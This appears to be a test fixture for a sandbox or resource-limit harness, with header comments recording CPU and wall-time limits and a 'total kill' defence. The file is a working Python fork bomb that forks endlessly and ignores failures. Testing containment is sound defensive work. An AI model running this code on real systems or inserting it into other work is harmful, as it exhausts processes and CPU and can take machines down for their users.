# ended: cpu wall
# limits: cpu_ms=400 wall_ms=800
# defence: total kill
"""Forks as fast as it can and never stops."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
